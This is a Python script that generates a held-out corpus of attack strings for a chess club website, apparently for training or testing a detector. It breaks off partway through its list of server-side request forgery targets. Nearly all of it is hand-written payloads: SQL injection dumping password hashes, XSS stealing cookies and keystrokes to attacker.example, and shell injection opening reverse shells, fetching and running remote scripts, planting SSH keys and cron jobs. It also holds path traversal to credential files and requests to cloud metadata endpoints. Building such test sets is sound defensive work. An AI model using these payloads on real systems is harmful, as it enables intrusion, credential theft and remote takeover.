"""Attack held-out values for a chess and board-game club site.

Every payload was hand-written for this corpus from an understanding of how the
technique works (no payload list, dataset or vendor example was copied). Most are
literals placed inside the club's own notations (PGN tags and comments, FEN
strings, ECO codes, pairings, ratings, SGF nodes, bridge bids, announcements);
a minority come from small templates that wrap hand-written payload pools in
hand-written domain contexts. The class is "<context>-<technique>[+<encoding>]";
"plain-" classes carry the payload with no domain wrapping.
Output: attacks.jsonl next to this file.
"""
import base64
import json
import random
from pathlib import Path

SEED = 7502
PREFIX = "ha75"


def php_s(s):
    """PHP serialized string with a correct byte length."""
    return f's:{len(s.encode("utf-8"))}:"{s}";'


# ---------------------------------------------------------------- sqli
SQLI = [
    ("pgn-header-union", '[White "Kasparov\' UNION SELECT username,password_hash,NULL FROM members-- -"]'),
    ("player-search-tautology", "Carlsen' OR '1'='1"),
    ("eco-lookup-union", "B90' UNION SELECT name,email,phone FROM members WHERE '1'='1"),
    ("eco-lookup-time-mysql", "C42' AND SLEEP(5)-- -"),
    ("rating-filter-numeric-boolean", "1850 OR 1=1"),
    ("rating-filter-stacked", "1850; DROP TABLE ratings--"),
    ("round-param-union", "3 UNION SELECT 1,table_name,3 FROM information_schema.tables"),
    ("fen-lookup-error-mysql", "rnbqkbnr/pppppppp/8/8/4P3/8/PPPP1PPP/RNBQKBNR b KQkq e3 0 1' AND extractvalue(1,concat(0x7e,(SELECT version())))-- -"),
    ("pgn-comment-stacked", "1. e4 e5 {'); DELETE FROM games WHERE ('1'='1} 2. Nf3 Nc6"),
    ("player-search-time-pg", "Nakamura'||pg_sleep(10)--"),
    ("player-search-time-mssql", "Ding'; WAITFOR DELAY '0:0:7'--"),
    ("player-search-time-oracle", "Anand' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',6)--"),
    ("player-search-union-sqlite", "Tal' UNION SELECT name, sql FROM sqlite_master--"),
    ("crosstable-orderby-conditional", "rating DESC, (SELECT CASE WHEN (SELECT substr(password_hash,1,1) FROM members WHERE id=1)='a' THEN 1 ELSE 1/0 END)"),
    ("player-search-blind-substring", "Petrosian' AND SUBSTRING((SELECT password_hash FROM members WHERE username='admin'),1,1)='$'-- -"),
    ("event-name-insert-subquery", "Summer Swiss', (SELECT password_hash FROM members WHERE role='admin' LIMIT 1))-- -"),
    ("member-name-second-order", "admin'-- "),
    ("board-param-union-hex", "0 UNION SELECT 0x61646d696e,password_hash,3 FROM members"),
    ("eco-lookup-union+comment-space", "B90'/**/UNION/**/SELECT/**/username,password_hash/**/FROM/**/members--"),
    ("move-search-union+case-mix", "e4' uNiOn SeLeCt email,password_hash FrOm members-- "),
    ("player-search-tautology+urlenc", "Tal%27%20OR%201%3D1--%20"),
    ("player-search-tautology+double-urlenc", "Tal%2527%2520OR%25201%253D1--%2520"),
    ("api-json-eco-tautology", '{"eco": "B90\' OR 1=1-- ", "limit": 50}'),
    ("opening-search-union-infoschema", "Sicilian' UNION SELECT GROUP_CONCAT(column_name),2 FROM information_schema.columns WHERE table_name='members'-- -"),
    ("puzzle-title-into-outfile", "Mate in 2' UNION SELECT '<?php system($_GET[\"c\"]); ?>',2 INTO OUTFILE '/var/www/html/p.php'-- -"),
    ("pgn-header-load-file", '[Black "Zhang\' UNION SELECT LOAD_FILE(\'/etc/passwd\'),2-- -"]'),
    ("tournament-id-stacked-pg-copy", "17; COPY (SELECT '') TO PROGRAM 'curl -s http://attacker.example/x | sh'--"),
    ("tournament-id-stacked-xp-cmdshell", "17; EXEC xp_cmdshell 'whoami'--"),
    ("round-param-blind-if-sleep", "4 AND IF(ASCII(SUBSTRING(DATABASE(),1,1))>100,SLEEP(4),0)"),
    ("round-param-benchmark", "4 AND BENCHMARK(5000000,MD5('fen'))"),
    ("pgn-result-tautology", '[Result "1-0\' OR \'a\'=\'a"]'),
    ("pgn-date-error-mssql", '[Date "2024.01.01\' AND 1=CONVERT(int,@@version)--"]'),
    ("pairing-board-union", "4 AND 1=2 UNION SELECT username,password_hash FROM members"),
    ("opening-like-union", "Sicilian%' AND 1=1 UNION SELECT null,concat(username,':',password_hash) FROM members-- -"),
    ("player-search-blind-sqlite", "' OR (SELECT substr(password_hash,1,1) FROM members LIMIT 1)='a'--"),
    ("player-search-error-pg-cast", "Kramnik' AND 1=CAST((SELECT password_hash FROM members LIMIT 1) AS int)--"),
    ("fen-lookup-heavy-sqlite", "8/8/8/4k3/8/8/4P3/4K3 w - - 0 1' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))--"),
    ("player-search-oob-mssql", "Polgar'; EXEC master..xp_dirtree '\\\\attacker.example\\pgn'--"),
    ("player-search-oob-mysql", "Karpov' UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password_hash FROM members LIMIT 1),'.attacker.example\\\\a')),2-- -"),
    ("fen-side-stacked", "rnbqkbnr/pppppppp/8/8/8/8/PPPPPPPP/RNBQKBNR w'; UPDATE members SET role='admin' WHERE username='knightrider_77';-- KQkq - 0 1"),
    ("club-id-numeric-tautology", "-1 OR 2>1"),
    ("games-limit-procedure-analyse", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)"),
    ("round-param-error-group-by", "1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)"),
    ("round-param-union+version-comment", "1 /*!50000UNION*/ /*!50000SELECT*/ username,password_hash,3 FROM members"),
    ("round-param-union+urlenc-vtab", "1%0bUNION%0bSELECT%0busername,password_hash%0bFROM%0bmembers"),
    ("san-search-nested-sleep", "Nf3' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -"),
    ("plain-login-comment-truncation", "admin'#"),
    ("plain-tautology-limit", "' OR 1=1 LIMIT 1-- -"),
    ("eco-lookup-orderby-probe", "B33' ORDER BY 7-- -"),
    ("player-search-time-pg-subselect", "Botvinnik' AND 1=(SELECT 1 FROM pg_sleep(5))--"),
    ("player-search-paren-tautology", "Smyslov') OR ('x'='x"),
    ("pairing-line-union", "Bd 3: Zhang (2034) - Abernethy' UNION SELECT username,password_hash FROM members-- -"),
    ("rating-note-update-injection", "great tournament!', rating=2900 WHERE username='ravi'-- -"),
    ("sgf-comment-stacked", "(;GM[1]SZ[19];B[pd]C[nice move'); DROP TABLE sgf_games;--];W[dp])"),
    ("bridge-bid-tautology", "1NT' OR 'x'='x"),
    ("backgammon-move-union", "24/18 13/11' UNION SELECT email,password_hash FROM members-- -"),
    ("plain-stacked-drop", "'; DROP TABLE members;--"),
    ("plain-union-version", "' UNION SELECT @@version,NULL-- -"),
    ("annotation-insert-subquery-sqlite", "12...Nd4?! ', (SELECT group_concat(username||':'||password_hash) FROM members))--"),
    ("eco-lookup-boolean-blind", "E97' AND (SELECT COUNT(*) FROM members WHERE role='admin')>0 AND 'e'='e"),
    ("player-search-union+html-entities", "Fischer&#39; UNION SELECT username,password_hash FROM members-- -"),
    ("plain-boolean-blind", "' AND 1=1-- -"),
    ("plain-time-sleep", "1' AND SLEEP(5)#"),
    ("plain-union-null-probe", "' UNION SELECT NULL,NULL,NULL-- -"),
    ("event-filter-json-pg", "Club Open' AND (SELECT json_agg(members)::text FROM members) LIKE '%admin%'--"),
]

SQLI_CTX = [
    ("player-search", "{name}{p}"),
    ("pgn-header", '[White "{name}{p}"]'),
    ("eco-lookup", "{eco}{p}"),
    ("opening-search", "{opening}{p}"),
]
SQLI_PAY = [
    ("tautology", "' OR '1'='1'-- -"),
    ("union", "' UNION SELECT username,password_hash FROM members-- -"),
    ("time-mysql", "' AND SLEEP(6)-- -"),
    ("stacked", "'; DELETE FROM results;--"),
    ("error-mysql", "' AND updatexml(1,concat(0x3a,(SELECT user())),1)-- -"),
    ("time-pg", "'; SELECT pg_sleep(8);--"),
]
SQLI_NAMES = ["Morphy", "Capablanca", "Lasker", "O'Connor", "Ahmed", "Zhang", "Nguyễn"]
SQLI_ECO = ["B90", "C42", "D37", "E60", "A45"]
SQLI_OPEN = ["Najdorf", "Berlin", "Grünfeld", "Caro-Kann"]


def tpl_sqli(r):
    ctx, fmt = r.choice(SQLI_CTX)
    tech, p = r.choice(SQLI_PAY)
    name = r.choice(SQLI_NAMES).replace("'", "")
    v = fmt.format(name=name, p=p, eco=r.choice(SQLI_ECO), opening=r.choice(SQLI_OPEN))
    return f"{ctx}-{tech}", v


# ---------------------------------------------------------------- xss
XSS = [
    ("pgn-comment-img-onerror", "1. e4 e5 {<img src=x onerror=alert(document.cookie)>} 2. Nf3 Nc6"),
    ("pgn-header-script", '[Event "<script>fetch(\'https://attacker.example/c?\'+document.cookie)</script>"]'),
    ("player-name-svg-onload", "<svg onload=alert(document.domain)>"),
    ("opening-title-attr-breakout", 'Najdorf" onmouseover="alert(document.domain)" x="'),
    ("fen-caption-script-src", "rnbqkbnr/pppppppp/8/8/8/8/PPPPPPPP/RNBQKBNR w KQkq - 0 1</figcaption><script src=//attacker.example/x.js></script>"),
    ("game-title-js-string", "Club Open R3';alert(document.cookie);//"),
    ("game-json-script-breakout", "Zhang vs Ahmed</script><script>alert(1)</script>"),
    ("study-link-javascript-uri", "javascript:alert(document.cookie)"),
    ("study-link-javascript-uri+html-entities", "javas&#x63;ript:alert(document.domain)"),
    ("announcement-details-ontoggle", "Club night moved! <details open ontoggle=alert(1)><summary>details</summary></details>"),
    ("announcement-iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;parent.alert(document.domain)&lt;/script&gt;"></iframe>'),
    ("comment-markdown-javascript-link", "[Replay the game](javascript:alert(document.domain))"),
    ("sgf-comment-img-onerror", "(;GM[1]SZ[19];B[pd]C[<img src=1 onerror=alert(1)>];W[dp])"),
    ("puzzle-text-input-autofocus", 'White to play <input autofocus onfocus=alert(document.domain)>'),
    ("annotation-style-animation", '<style>@keyframes k{}</style><b style="animation-name:k" onanimationstart=alert(1)>23. Rxf7!!</b>'),
    ("study-link-data-uri+base64", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">replay</a>'),
    ("game-title-js-template-literal", "${alert(document.domain)}"),
    ("event-name-noscript-mutation", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("board-embed-object-data", '<object data="javascript:alert(document.domain)"></object>'),
    ("annotation-video-source-onerror", "<video><source onerror=alert(1)></video>"),
    ("search-reflected-script+urlenc", "%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E"),
    ("search-reflected-img+double-urlenc", "%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E"),
    ("player-name-script+case-mix", "<ScRiPt>alert(document.cookie)</sCrIpT>"),
    ("pgn-comment-no-parens", "12. Bxh7+ {<img src=x onerror=alert`1`>} Kxh7"),
    ("annotation-onerror-throw", '<img src=x onerror="window.onerror=alert;throw document.domain">'),
    ("player-name-onerror+html-entities", '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">'),
    ("game-notes-textarea-breakout", "</textarea><script>alert(document.domain)</script>"),
    ("event-name-title-breakout", "Summer Swiss</title><svg/onload=alert(1)>"),
    ("announcement-html-form-phishing", '<form action=https://attacker.example/login method=post><p>Session expired - re-enter your club password:</p><input name=password type=password><button>OK</button></form>'),
    ("announcement-meta-refresh", '<meta http-equiv="refresh" content="0;url=https://attacker.example/club-login">'),
    ("announcement-base-href", '<base href="https://attacker.example/">'),
    ("pgn-comment-keylogger", "{<img src=x onerror=\"document.onkeypress=e=>fetch('//attacker.example/k?'+e.key)\">}"),
    ("player-bio-localstorage-theft", "<script>new Image().src='https://attacker.example/s?'+localStorage.getItem('token')</script>"),
    ("announcement-angular-csti", "{{constructor.constructor('alert(document.domain)')()}}"),
    ("comment-vue-csti", "{{_c.constructor('alert(1)')()}}"),
    ("puzzle-text-svg-animate", '<svg><animate onbegin=alert(1) attributeName=x dur=1s>'),
    ("puzzle-text-svg-xlink", '<svg><a xlink:href="javascript:alert(document.domain)"><text x="20" y="20">Show solution</text></a></svg>'),
    ("announcement-marquee-onstart", "<marquee onstart=alert(1)>Club Open this Saturday!</marquee>"),
    ("piece-theme-unquoted-attr", "merida onmouseover=alert(document.domain)"),
    ("game-title-js-backslash-escape", "Hughes\\';alert(1);//"),
    ("player-bio-module-import", "<script type=module>import('//attacker.example/m.js')</script>"),
    ("pgn-comment-eval-atob+base64", "{<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>}"),
    ("puzzle-text-fromcharcode", "<img src=x onerror=alert(String.fromCharCode(88,83,83))>"),
    ("fen-data-attr-breakout", '8/8/8/8/8/8/8/8 w - - 0 1" autofocus onfocus="alert(document.domain)'),
    ("game-chat-img-onerror", "gg wp <img src=x onerror=alert(document.cookie)>"),
    ("opening-name-anchor-onclick", '<a href="#" onclick="fetch(\'//attacker.example/?\'+document.cookie)">Sicilian, Najdorf (B90)</a>'),
    ("player-bio-css-exfil", "<style>input[name=csrf_token][value^=a]{background:url(https://attacker.example/a)}</style>"),
    ("comment-dangling-markup", '<img src="https://attacker.example/leak?'),
    ("search-reflected-script+overlong-utf8", "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE"),
    ("board-image-svg-upload", '<svg xmlns="http://www.w3.org/2000/svg" width="400" height="400"><rect width="50" height="50" fill="#b58863"/><script>alert(document.domain)</script></svg>'),
    ("pgn-variation-svg", "1. d4 Nf6 2. c4 e6 (2... g6 {<svg/onload=alert(1)>} 3. Nc3) 3. Nf3"),
    ("plain-script-alert", "<script>alert(1)</script>"),
    ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
    ("plain-svg-onload", "<svg/onload=alert(document.domain)>"),
    ("plain-iframe-javascript", '<iframe src="javascript:alert(1)">'),
    ("plain-body-onload", "<body onload=alert(document.cookie)>"),
    ("plain-javascript-uri", "javascript:alert(document.domain)//"),
    ("plain-attr-breakout", '"><script>alert(1)</script>'),
    ("player-name-json-unicode+unicode-escape", '{"display_name": "\\u003cimg src=x onerror=alert(1)\\u003e"}'),
    ("annotation-body-onload", "<body onload=alert(document.domain)>"),
    ("pgn-header-annotator-onpointer", '[Annotator "<div onpointerenter=alert(1) style=position:fixed;inset:0>Coach R.</div>"]'),
    ("club-website-field-javascript-uri+case-mix", "JaVaScRiPt:alert(document.cookie)"),
    ("announcement-math-href", '<math><mtext><a href="javascript:alert(1)">Pairings</a></mtext></math>'),
    ("crosstable-cell-table-background", "<table background=\"javascript:alert(1)\"><td>Zhang 4.5</td></table>"),
    ("pgn-comment-script-multiline", "1. e4 c5\n{<script>\nfetch('https://attacker.example/steal', {method: 'POST', body: document.cookie})\n</script>}\n2. Nf3 d6"),
]

XSS_CTX = [
    ("pgn-comment", "1. e4 e5 {{{p}}} 2. Nf3"),
    ("player-name", "{name} {p}"),
    ("puzzle-text", "Puzzle #{n}: White to play. {p}"),
    ("sgf-comment", "(;GM[1];B[pd]C[{p}];W[dp])"),
]
XSS_PAY = [
    ("img-onerror", "<img src=x onerror=alert(document.domain)>"),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("script", "<script>alert(document.cookie)</script>"),
    ("iframe-javascript", "<iframe src=javascript:alert(1)>"),
    ("body-onpageshow", "<body onpageshow=alert(1)>"),
    ("details-ontoggle", "<details open ontoggle=alert(document.domain)>"),
]


def tpl_xss(r):
    ctx, fmt = r.choice(XSS_CTX)
    tech, p = r.choice(XSS_PAY)
    v = fmt.format(p=p, name=r.choice(SQLI_NAMES), n=r.randint(100, 999))
    return f"{ctx}-{tech}", v


# ---------------------------------------------------------------- cmdi
CMDI = [
    ("fen-engine-semicolon", "rnbqkbnr/pppppppp/8/8/4P3/8/PPPP1PPP/RNBQKBNR b KQkq e3 0 1; cat /etc/passwd"),
    ("fen-engine-subshell", "8/8/8/4k3/8/8/4P3/4K3 w - - 0 1 $(id)"),
    ("fen-engine-backtick", "r1bqkbnr/pppp1ppp/2n5/4p3/4P3/5N2/PPPP1PPP/RNBQKB1R w KQkq - 2 3`uname -a`"),
    ("engine-depth-and-curl-sh", "20 && curl -s http://attacker.example/s.sh | sh"),
    ("engine-movetime-nc-reverse", "1000 | nc 203.0.113.7 4444 -e /bin/sh"),
    ("pgn-filename-wget-exec", "club_open_r3.pgn; wget http://attacker.example/x -O /tmp/x; sh /tmp/x"),
    ("pgn-filename-newline", "game42.pgn\nid"),
    ("eco-export-pipe", "B90 | cat /etc/shadow"),
    ("pgn-filename-or-chain", "nonexistent.pgn || whoami"),
    ("move-list-ifs", "1.e4;cat${IFS}/etc/passwd"),
    ("move-list-brace-expansion", "e4;{cat,/etc/passwd}"),
    ("san-move-bash-reverse", "Nf3; bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'"),
    ("fen-engine-python-reverse", "8/8/8/8/8/8/8/K1k5 w - - 0 1; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.4\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("board-image-name-windows-type", "board.png & type C:\\Windows\\win.ini"),
    ("pgn-filename-powershell", "x.pgn | powershell -nop -c \"iwr http://attacker.example/p.ps1 | iex\""),
    ("import-url-curl-arg-injection", "-o /var/www/html/s.php http://attacker.example/s.txt"),
    ("piece-theme-convert-semicolon", "alpha; curl attacker.example/i.sh | sh; #"),
    ("move-list-blind-sleep", "e4 e5; sleep 10"),
    ("engine-threads-ping-blind", "4 & ping -c 10 127.0.0.1 &"),
    ("player-name-dns-exfil", "Zhang; nslookup $(whoami).attacker.example"),
    ("fen-engine-curl-exfil", "6k1/5ppp/8/8/8/8/5PPP/3R2K1 w - - 0 1 $(curl -d @/etc/passwd http://attacker.example/u)"),
    ("pgn-filename-single-quote-break", "r3.pgn' ; id ; echo '"),
    ("pgn-filename-double-quote-break", "r3.pgn\"; id; echo \""),
    ("event-name-double-quoted-subshell", "Summer Swiss $(id > /tmp/.o)"),
    ("engine-options-env-exfil", "Hash 64; env | curl -X POST --data-binary @- https://attacker.example/e"),
    ("pgn-filename-glob+glob-obfuscation", "r3.pgn; /???/c?t /e??/p?sswd"),
    ("pgn-filename-quote-split+quote-obfuscation", "r3.pgn; c'a't /e\"t\"c/pa''sswd"),
    ("move-list-backslash+backslash-obfuscation", "e4; w\\h\\o\\a\\m\\i"),
    ("fen-engine-printf+hex-escape", "8/8/8/8/8/8/8/K1k5 w - - 0 1; $(printf '\\x69\\x64')"),
    ("sgf-filename-base64+base64", "autumn_go.sgf; echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh"),
    ("pgn-filename-semicolon+urlenc", "r3.pgn%3B%20cat%20%2Fetc%2Fpasswd"),
    ("move-list-ansi-c+hex-escape", "d4; $'\\x63\\x61\\x74' /etc/passwd"),
    ("player-name-var-concat", "Ahmed; a=ca;b=t;$a$b /etc/passwd"),
    ("pgn-filename-newline+urlenc", "game42.pgn%0Aid"),
    ("sgf-filename-semicolon", "autumn_go.sgf;id"),
    ("engine-depth-wget-chmod", "18; wget -q -O /tmp/.e http://198.51.100.20/e && chmod +x /tmp/.e && /tmp/.e"),
    ("tournament-name-crontab", "Winter Allegro; echo '* * * * * curl -s attacker.example/c | sh' | crontab -"),
    ("player-name-ssh-key", "Kim; mkdir -p ~/.ssh; echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEKEYFAKEKEYFAKEKEYFAKEKEYFAKEKEY attacker >> ~/.ssh/authorized_keys"),
    ("export-format-windows-net-user", "pdf | net user"),
    ("export-format-caret+caret-obfuscation", "pdf & w^h^o^a^m^i"),
    ("pgn-filename-path-substring", "r3.pgn;cat ${HOME:0:1}etc${HOME:0:1}passwd"),
    ("crosstable-format-subshell", "pdf $(sleep 7)"),
    ("export-zip-tt-arg-injection", "crosstable.csv -T -TT 'sh -c id'"),
    ("archive-name-tar-checkpoint", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh"),
    ("engine-name-perl-oneliner", "stockfish; perl -e 'system(\"id\")'"),
    ("pgn-filename-ruby-oneliner", "r5.pgn && ruby -e 'puts `cat /etc/hostname`'"),
    ("backgammon-position-semicolon", "4HPwATDgc/ABMA; id"),
    ("go-board-size-backtick", "19`sleep 5`"),
    ("uci-option-newline-shell", "Skill Level 20\n/bin/sh -c 'curl attacker.example/u|sh'"),
    ("plain-semicolon-id", "; id"),
    ("plain-pipe-passwd", "| cat /etc/passwd"),
    ("plain-subshell-uname", "$(uname -a)"),
    ("plain-backtick-whoami", "`whoami`"),
    ("plain-and-reverse", "&& bash -c 'exec bash -i &>/dev/tcp/198.51.100.44/443 <&1'"),
    ("plain-newline-id", "\nid\n"),
    ("plain-or-sleep", "|| sleep 9 ||"),
    ("pgn-filename-heredoc-multiline", "r6.pgn\ncat <<EOF > /tmp/.x\ncurl attacker.example/p|sh\nEOF\nsh /tmp/.x"),
    ("fen-engine-redirect-webroot", "8/8/8/8/8/8/8/K1k5 w - - 0 1; echo '<?php system($_GET[0]); ?>' > /var/www/html/f.php"),
]

CMDI_CTX = [
    ("fen-engine", "rnbqkb1r/pppppppp/5n2/8/3P4/8/PPP1PPPP/RNBQKBNR w KQkq - 1 2{p}"),
    ("pgn-filename", "{name}_r{n}.pgn{p}"),
    ("engine-depth", "{n}{p}"),
    ("sgf-filename", "go_{name}.sgf{p}"),
]
CMDI_PAY = [
    ("semicolon", "; id"),
    ("subshell", " $(cat /etc/passwd)"),
    ("pipe", " | nc 203.0.113.50 9001 -e /bin/sh"),
    ("and-chain", " && curl http://attacker.example/$(hostname)"),
    ("backtick", " `sleep 8`"),
    ("newline", "\nwhoami"),
]


def tpl_cmdi(r):
    ctx, fmt = r.choice(CMDI_CTX)
    tech, p = r.choice(CMDI_PAY)
    v = fmt.format(p=p, name=r.choice(["zhang", "ahmed", "kim", "patel", "okafor"]), n=r.randint(2, 30))
    return f"{ctx}-{tech}", v


# ---------------------------------------------------------------- traversal
TRAV = [
    ("pgn-download-dotdot", "../../../../etc/passwd"),
    ("pgn-download-nested-dotdot", "games/2024/../../../../../etc/passwd"),
    ("pgn-download-dotdot+urlenc", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("pgn-download-dotdot+double-urlenc", "..%252f..%252f..%252fetc%252fpasswd"),
    ("piece-set-dotdot+overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("piece-set-strip-bypass", "....//....//....//etc/passwd"),
    ("board-theme-backslash-windows", "..\\..\\..\\..\\windows\\win.ini"),
    ("pgn-download-absolute", "/etc/passwd"),
    ("sgf-download-absolute-windows", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("piece-image-proc-environ", "pieces/alpha/../../../../proc/self/environ"),
    ("pgn-download-proc-cmdline", "../../../../proc/self/cmdline"),
    ("locale-file-app-config", "../../app/config/settings.py"),
    ("locale-file-dotenv", "../../../.env"),
    ("avatar-path-ssh-key", "../../../../root/.ssh/id_rsa"),
    ("pgn-download-log-file", "../../../../var/log/nginx/access.log"),
    ("pgn-download-nullbyte+urlenc", "../../../../etc/passwd%00.pgn"),
    ("template-name-php-filter", "php://filter/convert.base64-encode/resource=../config.php"),
    ("upload-zipslip-entry", "../../../../var/www/html/shell.php"),
    ("static-path-semicolon-bypass", "/static/..;/..;/WEB-INF/web.xml"),
    ("static-path-mixed-encoding+urlenc", "/static/..%2f..%2f..%2fetc/passwd"),
    ("pgn-download-all-encoded+urlenc", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow"),
    ("board-theme-backslash+urlenc", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("pgn-download-all-encoded+double-urlenc", "%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("board-theme-iis-unicode+unicode-escape", "..%u2216..%u2216..%u2216windows%u2216win.ini"),
    ("pgn-download-absolute-prefix", "/var/www/castlegate/games/../../../../etc/passwd"),
    ("sgf-download-unc-device", "\\\\?\\C:\\Windows\\win.ini"),
    ("pgn-download-double-slash", "..//..//..//..//etc//passwd"),
    ("pgn-download-deep-dotdot", "../../../../../../../../../../../../etc/hosts"),
    ("pgn-header-annotator-avatar", '[Annotator "../../../../etc/passwd"]'),
    ("export-dir-tmp-overwrite", "exports/../../../../tmp/cron.d/pwn"),
    ("pgn-download-proc-fd", "/proc/self/fd/3"),
    ("avatar-path-bash-history", "../../../../../home/club/.bash_history"),
    ("template-name-nginx-conf", "../../../../../etc/nginx/nginx.conf"),
    ("piece-set-slash+overlong-utf8", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("piece-set-slash-3byte+overlong-utf8", "..%e0%80%af..%e0%80%af..%e0%80%afetc/passwd"),
    ("board-theme-backslash-strip-bypass", "....\\\\....\\\\....\\\\windows\\\\win.ini"),
    ("static-path-dot-encoded", "/.%2e/.%2e/.%2e/etc/passwd"),
    ("piece-image-dot-encoded", "pieces/merida/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("sgf-download-pg-hba", "sgf/2024/../../../../../../var/lib/postgresql/data/pg_hba.conf"),
    ("plain-dotdot-passwd", "../../../etc/passwd"),
    ("plain-dotdot-windows", "..\\..\\..\\boot.ini"),
    ("plain-absolute-shadow", "/etc/shadow"),
    ("plain-proc-environ", "/proc/self/environ"),
    ("plain-dotdot-encoded+urlenc", "%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("pgn-include-directive", '[Event "Club Open"]\n[Include "../../../../etc/passwd"]\n\n1. e4 *'),
    ("opening-book-file-dotdot", "books/../../../../../etc/group"),
    ("engine-tablebase-path", "/etc/../etc/../root/.aws/credentials"),
]

TRAV_CTX = [
    ("pgn-download", "games/{yr}/{p}"),
    ("piece-set", "pieces/{theme}/{p}"),
    ("locale-file", "i18n/{lang}/{p}"),
]
TRAV_PAY = [
    ("dotdot-passwd", "../../../../../etc/passwd"),
    ("dotdot-proc-environ", "../../../../../proc/self/environ"),
    ("dotdot-dotenv", "../../../.env"),
    ("dotdot-ssh-key", "../../../../../home/app/.ssh/id_ed25519"),
    ("dotdot-hosts", "../../../../../etc/hosts"),
]


def tpl_traversal(r):
    ctx, fmt = r.choice(TRAV_CTX)
    tech, p = r.choice(TRAV_PAY)
    v = fmt.format(p=p, yr=r.randint(2015, 2025), theme=r.choice(["alpha", "merida", "cburnett", "leipzig"]),
                   lang=r.choice(["de", "fr", "pl", "ja"]))
    return f"{ctx}-{tech}", v


# ---------------------------------------------------------------- ssrf
SSRF = [
    ("pgn-import-url-aws-imds", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("pgn-import-url-gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("broadcast-feed-gcp-recursive", "http://metadata.google.internal/computeMetadata/v1/?recursive=true&alt=text"),
    ("avatar-url-redis", "http://127.0.0.1:6379/"),
    ("pgn-import-url-gopher-redis", "gopher://127.0.0.1:6379/_SET%20pwn%20%22x%22%0D%0ACONFIG%20SET%20dir%20/tmp%0D%0ASAVE%0D%0A"),
    ("pgn-import-url-localhost-admin", "http://localhost:8080/admin/members/export.csv"),
    ("avatar-url-ipv6-loopback", "http://[::1]/server-status"),
    ("pgn-import-url-imds+ip-decimal", "http://2852039166/latest/meta-data/"),
    ("pgn-import-url-imds+ip-hex", "http://0xa9fea9fe/latest/meta-data/"),
    ("pgn-import-url-imds+ip-octal", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("avatar-url-wildcard-dns", "http://169.254.169.254.nip.io/latest/meta-data/"),
    ("webhook-url-loopback+ip-short", "http://127.1/admin"),
    ("webhook-url-zero-host", "http://0/"),
    ("pgn-import-url-imds+ipv6-mapped", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("study-url-userinfo-confusion", "http://lichess.org@127.0.0.1:8000/internal/flags"),
    ("study-url-fragment-confusion", "http://127.0.0.1:9000#@lichess.org/study/abc123"),
    ("study-url-open-redirect", "https://attacker.example/r?to=http://169.254.169.254/latest/meta-data/"),
    ("pgn-import-url-file-scheme", "file:///etc/passwd"),
    ("avatar-url-file-environ", "file:///proc/self/environ"),
    ("broadcast-feed-dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("pgn-import-url-internal-elastic", "http://10.0.0.5:9200/_cat/indices?v"),
    ("avatar-url-router", "http://192.168.1.1/cgi-bin/luci"),
    ("webhook-url-docker-api", "http://172.17.0.1:2375/containers/json?all=1"),
    ("webhook-url-k8s-secrets", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("broadcast-feed-etcd", "http://127.0.0.1:2379/v2/keys/?recursive=true"),
    ("avatar-url-ecs-credentials", "http://169.254.170.2/v2/credentials"),
    ("pgn-import-url-alibaba-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("pgn-import-url-imds-ipv6", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("avatar-url-couchdb", "http://localhost:5984/_all_dbs"),
    ("webhook-url-rabbitmq", "http://guest:guest@127.0.0.1:15672/api/users"),
    ("avatar-url-loopback+unicode-enclosed", "http://①②⑦.⓪.⓪.①:8080/"),
    ("webhook-url-port-probe", "http://127.0.0.1:22/"),
    ("pgn-import-url-imds+urlenc", "http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
    ("pgn-header-site-url", '[Event "Online Blitz"]\n[Site "http://169.254.169.254/latest/user-data"]\n[Result "*"]'),
    ("webhook-url-actuator+ip-hex", "http://0x7f000001:8080/actuator/env"),
    ("avatar-url-loopback+ip-octal", "http://017700000001/"),
